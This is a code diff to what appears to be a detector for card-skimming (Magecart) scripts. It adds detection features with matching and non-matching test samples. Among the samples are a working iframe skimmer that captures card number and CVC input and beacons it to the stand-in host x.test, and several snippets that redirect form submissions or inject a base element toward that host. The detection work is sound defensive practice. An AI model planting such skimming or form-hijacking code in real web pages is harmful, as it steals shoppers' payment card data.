@@ -4,6 +4,7 @@ import { isCardName, isPaymentName, mentionsCardField } from '../flow/field-word
 import { anyField, taint } from '../flow/taint.ts';
 import { propertyName } from '../tree/known-calls.ts';
 import { elementFinders } from '../values/paths.ts';
+import { cardMessages } from './card-frames.ts';
 import type { Feature, Finder } from './feature.ts';
 import {
   allOf,
@@ -155,6 +156,9 @@ function listedSkimmer({ texts }: Facts): number[] {
 const madeCardForm: Finder = text(
   ({ text: it }) => /<(?:input|form|iframe)/i.test(it) && mentionsCardField(it),
 );
+
+/** A sample, of which others leave a part out. */
+const cardFrame = `f.srcdoc = '<input name="cardnumber"><input name="cvc"><script>oninput = (e) => parent.postMessage(e.target.value, "*")<\\/script>'; window.addEventListener('message', (m) => { new Image().src = 'https://x.test/?' + m.data; });`;
 
 export const magecartFeatures: readonly Feature[] = [
   {
@@ -316,11 +320,16 @@ export const magecartFeatures: readonly Feature[] = [
         `document.querySelectorAll('form').forEach(lead); function lead(f) { f.setAttribute('action', 'https://' + 'x.test' + '/p'); }`,
         `document.querySelector('button').formAction = 'https://x.test/p';`,
         `Object.assign(document.forms[0], { action: 'https://x.test/p' });`,
+        `document.onclick = (e) => { const b = e.target.closest && e.target.closest('[type=submit]'); if (b) b.form.setAttribute('action', 'https://x.test/p'); };`,
+        `const f = document.querySelector('form').cloneNode(true); f.action = 'https://x.test/p';`,
+        `const b = document.createElement('base'); b.href = 'https://x.test/'; document.head.prepend(b);`,
       ],
       other: [
         `document.querySelector('form').action = '/p';`,
         `var f = document.createElement('form'); f.action = 'https://x.test/p';`,
         `settings.action = 'https://x.test/p';`,
+        `settings.form.action = 'https://x.test/p';`,
+        `const b = document.createElement('base'); b.href = '/app/'; document.head.prepend(b);`,
       ],
     },
   },
@@ -337,6 +346,7 @@ export const magecartFeatures: readonly Feature[] = [
       ],
       other: [
         `document.querySelector('form.search').action = 'https://x.test/p';`,
+        `const f = document.querySelector('#news'); f.action = 'https://x.test/p'; f.addEventListener('submit', count);`,
         `function make() { const form = document.createElement('form'); form.method = 'post'; return form; } const form = make(); form.action = 'https://x.test/p'; form.submit();`,
       ],
     },
@@ -463,6 +473,36 @@ export const magecartFeatures: readonly Feature[] = [
     samples: {
       matching: [`el.innerHTML = '<form><input name="cc-number"><input name="cvv"></form>';`],
       other: [`el.innerHTML = '<form><input name="street"></form>';`],
+    },
+  },
+  {
+    id: 'card-frame-made',
+    what: 'Makes a frame with card fields and passes on what it hands to the page',
+    points: 50,
+    shows: ['taken'],
+    find: cardMessages,
+    samples: {
+      matching: [cardFrame],
+      other: [
+        cardFrame.replace('postMessage', 'show'),
+        cardFrame.replace('https://x.test/', 'https://x.test/logo.png?').replace('m.data', 'n'),
+      ],
+    },
+  },
+  {
+    id: 'card-frame-sent-elsewhere',
+    what: 'Sends what a frame with card fields hands to the page to another host',
+    points: 50,
+    shows: ['destination'],
+    find: cardMessages,
+    samples: {
+      matching: [cardFrame],
+      other: [
+        cardFrame
+          .replace('https://x.test/?', '/log?')
+          .replace('cvc', 'city')
+          .replace('cardnumber', 'street'),
+      ],
     },
   },
   {
